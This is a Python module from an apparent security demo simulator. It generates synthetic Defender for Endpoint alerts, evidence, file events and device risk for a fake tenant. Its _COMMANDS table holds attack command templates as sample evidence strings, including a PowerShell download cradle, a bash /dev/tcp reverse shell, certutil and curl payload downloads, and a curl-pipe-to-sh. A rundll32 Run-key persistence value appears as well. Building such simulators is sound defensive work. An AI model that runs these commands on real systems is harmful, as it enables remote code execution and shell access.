"""The seeded alerts of a simulated tenant, with their evidence, the file profiles and the file
events (hunting's DeviceFileEvents) that go with them. Runs after `seed.fleet`, on the same
random stream, so the whole tenant is one deterministic draw."""

from __future__ import annotations

import random
import uuid
from collections import defaultdict
from datetime import UTC, datetime, timedelta

from bot.demo.simulator import catalog, derive, seed
from bot.demo.simulator.catalog import AlertKind, Binary
from bot.demo.simulator.rows import (
    FileHashes,
    Row,
    alert_row,
    evidence,
    hex_digest,
    iso,
    user_evidence,
)
from bot.demo.simulator.seed import EXPOSURE, HEALTH, ONBOARDING, RISK, Generated, TenantSpec

_TICKS_EPOCH = datetime(1, 1, 1, tzinfo=UTC)
_COMMANDS = {
    "powershell.exe": "powershell.exe -NoProfile -ExecutionPolicy Bypass -Command "
    "\"IEX (New-Object Net.WebClient).DownloadString('{url}')\"",
    "cmd.exe": 'cmd.exe /c whoami /groups & net group "Domain Admins" /domain',
    "rundll32.exe": "rundll32.exe C:\\ProgramData\\UpdateHelper\\update_helper.dll,Start",
    "mshta.exe": "mshta.exe {url}",
    "wscript.exe": "wscript.exe //B C:\\Users\\{user}\\AppData\\Local\\Temp\\run.js",
    "certutil.exe": "certutil.exe -urlcache -split -f {url} C:\\Users\\Public\\a.exe",
    "bash": "bash -i >& /dev/tcp/{ip}/4444 0>&1",
    "python3": "python3 /var/tmp/revshell.py {ip} 443",
    "osascript": "osascript -e 'do shell script \"curl -s {url} | sh\"'",
    "curl": "curl -fsSL {url} -o /tmp/.u.sh",
}
_PARENTS = {
    catalog.WINDOWS: ("explorer.exe", "C:\\Windows"),
    catalog.MAC: ("launchd", "/sbin"),
    catalog.LINUX: ("sshd", "/usr/sbin"),
    catalog.MOBILE: ("zygote64", "/system/bin"),
}
_SEVERITY_RANK = {"UnSpecified": 0, "Informational": 1, "Low": 2, "Medium": 3, "High": 4}
_URL_PATHS = ("invoice.zip", "login.php", "dl/payload.bin", "s/4hT9x", "update.sh", "doc.hta")


def alert_id(rng: random.Random, created: datetime) -> str:
    """MDE's form: `da` + .NET ticks of the creation time + `_` + a signed 32-bit number."""
    delta = created - _TICKS_EPOCH
    ticks = (delta.days * 86_400 + delta.seconds) * 10**7 + delta.microseconds * 10
    return f"da{ticks}_{rng.randint(-(2**31), 2**31 - 1)}"


class _Drafter:
    """Draws alerts for one tenant."""

    def __init__(self, spec: TenantSpec, rng: random.Random, now: datetime, out: Generated):
        self.spec, self.rng, self.now, self.out = spec, rng, now, out
        self.binaries = {b.name: (b, derive.hashes_for(b, spec.name)) for b in catalog.LOLBINS}
        self.binaries.update(
            {b.name: (b, derive.hashes_for(b, spec.name)) for b in catalog.MALWARE}
        )
        self.analysts = [a.format(d=spec.upn_domain) for a in catalog.ANALYSTS]

    # ---------------------------------------------------------------- one alert

    def account(self, machine: Row) -> Row:
        owner = self.out.primary_user.get(machine["id"])
        return owner if owner is not None else self.rng.choice(self.out.people[:8])

    def created(self, machine: Row) -> datetime:
        last = datetime.fromisoformat(machine["lastSeen"])
        first = datetime.fromisoformat(machine["firstSeen"])
        age = min(self.rng.expovariate(1 / 16), 110.0)
        moment = min(self.now - timedelta(days=age), last - timedelta(minutes=3))
        return max(moment, first + timedelta(hours=1))

    def pick(self, family: str, kind: str, threat: str | None) -> tuple[Binary, FileHashes]:
        pool = [
            pair
            for pair in self.binaries.values()
            if pair[0].family == family and (pair[0].system == (kind == "lolbin"))
        ]
        fitting = [p for p in pool if threat and p[0].threat and threat in p[0].threat]
        return self.rng.choice(fitting or pool)

    def process(
        self, binary: Binary, hashes: FileHashes, at: datetime, user: str, url: str, ip: str
    ) -> Row:
        parent, parent_path = _PARENTS[binary.family]
        command = _COMMANDS.get(binary.name, binary.name).format(url=url, ip=ip, user=user)
        return evidence(
            "Process",
            at + timedelta(seconds=2),
            sha1=hashes.sha1,
            sha256=hashes.sha256,
            fileName=binary.name,
            filePath=binary.folder.format(u=user),
            processId=self.rng.randint(800, 24_000),
            processCommandLine=command,
            processCreationTime=iso(at - timedelta(seconds=self.rng.randint(1, 90))),
            parentProcessId=self.rng.randint(400, 9_000),
            parentProcessCreationTime=iso(at - timedelta(minutes=self.rng.randint(2, 600))),
            parentProcessFileName=parent,
            parentProcessFilePath=parent_path,
            detectionStatus="Detected",
        )

    def draft(self, machine: Row, kind: AlertKind) -> Row:
        rng = self.rng
        at = self.created(machine)
        user = self.account(machine)
        url = f"https://{rng.choice(catalog.BAD_DOMAINS)}/{rng.choice(_URL_PATHS)}"
        ip = rng.choice(catalog.BAD_IPS)
        if kind.category == "LateralMovement":
            ip = str(rng.choice(self.out.machines[:60])["lastIpAddress"])
        items: list[Row] = []
        threat_name = None
        for part in kind.evidence:
            if part == "user":
                items.append(user_evidence(at + timedelta(seconds=1), user))
            elif part == "lolbin":
                binary, hashes = self.pick(derive.family_of(machine), "lolbin", None)
                items.append(self.process(binary, hashes, at, user["accountName"], url, ip))
            elif part == "malware":
                binary, hashes = self.pick(derive.family_of(machine), "malware", kind.threat_family)
                threat_name = binary.threat
                status = "Prevented" if kind.source == "WindowsDefenderAv" else "Detected"
                items.append(
                    evidence(
                        "File",
                        at + timedelta(seconds=1),
                        sha1=hashes.sha1,
                        sha256=hashes.sha256,
                        fileName=binary.name,
                        filePath=binary.folder.format(u=user["accountName"]),
                        detectionStatus=status,
                    )
                )
            elif part == "ip":
                items.append(evidence("Ip", at + timedelta(seconds=1), ipAddress=ip))
            elif part == "url":
                items.append(evidence("Url", at + timedelta(seconds=1), url=url))
            elif part == "registry":
                items.append(
                    evidence(
                        "RegistryValue",
                        at + timedelta(seconds=1),
                        registryKey="HKEY_CURRENT_USER\\SOFTWARE\\Microsoft\\Windows\\"
                        "CurrentVersion\\Run",
                        registryHive="HKEY_CURRENT_USER",
                        registryValueType="String",
                        registryValueName="UpdateHelper",
                        registryValue="rundll32.exe C:\\ProgramData\\UpdateHelper\\"
                        "update_helper.dll,Start",
                    )
                )
        return self.finish(machine, kind, at, items, threat_name)

    def finish(
        self,
        machine: Row,
        kind: AlertKind,
        at: datetime,
        items: list[Row],
        threat_name: str | None,
        status: str | None = None,
    ) -> Row:
        rng = self.rng
        age_days = (self.now - at).total_seconds() / 86_400
        resolved_share = 0.7 if age_days > 20 else 0.15
        status = (
            status
            or rng.choices(
                ("New", "InProgress", "Resolved"),
                (1 - resolved_share - 0.12, 0.12, resolved_share),
            )[0]
        )
        users = [e for e in items if e["entityType"] == "User"]
        extra: Row = {
            "status": status,
            "detectionSource": kind.source,
            "detectorId": str(uuid.UUID(hex_digest(f"detector:{kind.title}", 32))),
            "threatFamilyName": kind.threat_family,
            "threatName": threat_name if kind.source == "WindowsDefenderAv" else None,
            "mitreTechniques": list(kind.mitre),
            "firstEventTime": iso(at - timedelta(seconds=rng.randint(5, 300))),
            "lastEventTime": iso(at - timedelta(seconds=rng.randint(0, 4))),
            "lastUpdateTime": iso(at + timedelta(minutes=rng.randint(1, 90))),
            "evidence": items,
            "investigationState": "Queued",
        }
        if users:
            extra["relatedUser"] = {
                "userName": users[0]["accountName"],
                "domainName": users[0]["domainName"],
            }
            extra["loggedOnUsers"] = [
                {"accountName": users[0]["accountName"], "domainName": users[0]["domainName"]}
            ]
        if kind.source == "WindowsDefenderAtp" and rng.random() < 0.5:
            extra["investigationId"] = rng.randint(100_000, 999_999)
        if status != "New":
            analyst = rng.choice(self.analysts)
            extra["assignedTo"] = analyst
            extra["investigationState"] = "Running" if status == "InProgress" else "Benign"
            if rng.random() < 0.3:
                extra["comments"] = [
                    {
                        "comment": rng.choice(
                            ("Escalated to IR", "User contacted", "Reimaged", "Known tool")
                        ),
                        "createdBy": analyst,
                        "createdTime": iso(at + timedelta(hours=rng.uniform(0.2, 8))),
                    }
                ]
        if status == "Resolved":
            benign = rng.random() < 0.3
            extra["classification"] = "FalsePositive" if benign else "TruePositive"
            extra["determination"] = "Clean" if benign else rng.choice(("Malware", "Other"))
            extra["investigationState"] = "Benign" if benign else "SuccessfullyRemediated"
            done = at + timedelta(hours=rng.uniform(1, 72))
            extra["resolvedTime"] = iso(done)
            extra["lastUpdateTime"] = iso(done)
        return alert_row(
            alert_id(self.rng, at),
            machine,
            tenant_id=self.spec.tenant_id,
            title=kind.title,
            severity=rng.choice(kind.severities),
            category=kind.category,
            created=iso(at),
            **extra,
        )


def populate(spec: TenantSpec, rng: random.Random, now: datetime, out: Generated) -> None:
    """Alerts (with evidence), file profiles and file events, into `out`."""
    drafter = _Drafter(spec, rng, now, out)
    quiet = {h.split(".")[0] for h in spec.quiet_hosts}
    story = set(spec.shared_ip_hosts)
    if spec.campaign is not None:
        c = spec.campaign
        story.update(c.file_victims + c.url_victims + c.sightings)
        for host in c.file_victims + c.url_victims + c.sightings:
            seed.activate(seed.find_host(out, host), now, minutes_ago=rng.uniform(10, 600))
    candidates = [
        m
        for m in out.machines
        if m["onboardingStatus"] == "Onboarded" and m["computerDnsName"].split(".")[0] not in quiet
    ]
    weights = [6 if rng.random() < 0.1 else 1 for _ in candidates]
    kinds: dict[str, list[AlertKind]] = defaultdict(list)
    for kind in catalog.ALERT_KINDS:
        kinds[kind.family].append(kind)
    alerts: list[Row] = []
    if spec.campaign is not None:
        alerts.extend(_campaign(drafter, spec, out))
    while len(alerts) < spec.alerts:
        machine = rng.choices(candidates, weights)[0]
        alerts.append(drafter.draft(machine, rng.choice(kinds[derive.family_of(machine)])))
    _incidents(alerts, rng)
    alerts.sort(key=lambda a: str(a["alertCreationTime"]), reverse=True)
    out.alerts = alerts
    out.files = [
        derive.profile(binary, hashes, rng, now) for binary, hashes in drafter.binaries.values()
    ]
    out.file_events = derive.file_events(
        alerts, {h.sha1: h.md5 for _, h in drafter.binaries.values()}
    )
    out.file_events.extend(_sightings(drafter, spec, out, candidates))
    _risk(out.machines, alerts, rng, story)


def _campaign(drafter: _Drafter, spec: TenantSpec, out: Generated) -> list[Row]:
    campaign = spec.campaign
    assert campaign is not None
    rng, now = drafter.rng, drafter.now
    by_host = {str(m["computerDnsName"]).split(".")[0]: m for m in out.machines}
    alerts = []
    mimikatz = AlertKind(
        "'Mimikatz' credential theft tool was prevented", "CredentialAccess", ("High",),
        "WindowsDefenderAv", catalog.WINDOWS, ("T1003.001",), (), "Mimikatz",
    )  # fmt: skip
    phishing = AlertKind(
        "Connection to a known phishing site blocked", "InitialAccess", ("Medium",),
        "WindowsDefenderSmartScreen", catalog.WINDOWS, ("T1566.002",), (),
    )  # fmt: skip
    for index, host in enumerate(campaign.file_victims + campaign.url_victims):
        machine = by_host[host]
        user = drafter.account(machine)
        at = now - timedelta(days=1 + index * 1.5, minutes=rng.randint(0, 600))
        items = [user_evidence(at + timedelta(seconds=1), user)]
        if host in campaign.file_victims:
            kind = mimikatz
            items.append(
                evidence(
                    "File",
                    at + timedelta(seconds=1),
                    sha1=campaign.hashes.sha1,
                    sha256=campaign.hashes.sha256,
                    fileName=campaign.file_name,
                    filePath=campaign.folder.format(u=user["accountName"]),
                    detectionStatus="Prevented",
                )
            )
        else:
            kind = phishing
            items.append(evidence("Url", at + timedelta(seconds=1), url=campaign.url))
            items.append(evidence("Ip", at + timedelta(seconds=1), ipAddress=campaign.remote_ip))
        threat = "HackTool:Win32/Mimikatz" if kind is mimikatz else None
        alerts.append(drafter.finish(machine, kind, at, items, threat, status="New"))
    return alerts


def _incidents(alerts: list[Row], rng: random.Random) -> None:
    """Alerts on one device within a day of each other share an incident."""
    ordered = sorted(alerts, key=lambda a: (str(a["machineId"]), str(a["alertCreationTime"])))
    incident, previous = rng.randint(1_000, 5_000), None
    for alert in ordered:
        at = datetime.fromisoformat(alert["alertCreationTime"])
        if (
            previous is None
            or previous[0] != alert["machineId"]
            or at - previous[1] > timedelta(days=1)
        ):
            incident += rng.randint(1, 40)
        alert["incidentId"] = incident
        previous = (alert["machineId"], at)


def _sightings(
    drafter: _Drafter, spec: TenantSpec, out: Generated, candidates: list[Row]
) -> list[Row]:
    """Files seen on devices without an alert: malware that slipped by, and the campaign's."""
    rng, now = drafter.rng, drafter.now
    planted: list[tuple[Row, str, str, FileHashes]] = []
    for binary, hashes in drafter.binaries.values():
        if binary.system:
            continue
        fitting = [m for m in candidates if derive.family_of(m) == binary.family]
        chosen = rng.sample(fitting, min(len(fitting), rng.randint(0, 2)))
        planted.extend((machine, binary.name, binary.folder, hashes) for machine in chosen)
    if spec.campaign is not None:
        by_host = {str(m["computerDnsName"]).split(".")[0]: m for m in out.machines}
        c = spec.campaign
        planted.extend((by_host[h], c.file_name, c.folder, c.hashes) for h in c.sightings)
    events = []
    for machine, name, folder, hashes in planted:
        owner = out.primary_user.get(machine["id"])
        user = owner["accountName"] if owner else "Public"
        events.append(
            {
                "Timestamp": iso(now - timedelta(days=rng.uniform(0.2, 25))),
                "DeviceId": machine["id"],
                "DeviceName": machine["computerDnsName"],
                "FileName": name,
                "FolderPath": derive.join_path(folder.format(u=user), name),
                "SHA1": hashes.sha1,
                "SHA256": hashes.sha256,
                "MD5": hashes.md5,
            }
        )
    return events


def _risk(machines: list[Row], alerts: list[Row], rng: random.Random, story: set[str]) -> None:
    """Risk follows the worst open alert; then every documented value is made to occur (on
    devices the story does not name)."""
    worst: dict[str, str] = {}
    for alert in alerts:
        if alert["status"] == "Resolved":
            continue
        mid, severity = str(alert["machineId"]), str(alert["severity"])
        if _SEVERITY_RANK[severity] > _SEVERITY_RANK.get(worst.get(mid, "UnSpecified"), 0):
            worst[mid] = severity
    for machine in machines:
        machine["riskScore"] = worst.get(machine["id"], "None")
    spare = [
        m
        for m in machines
        if m["id"] not in worst and str(m["computerDnsName"]).split(".")[0] not in story
    ]
    for field, values in (
        ("riskScore", RISK),
        ("exposureLevel", EXPOSURE),
        ("healthStatus", HEALTH),
        ("onboardingStatus", ONBOARDING),
    ):
        for value in values:
            if not any(m[field] == value for m in machines):
                rng.choice(spare)[field] = value
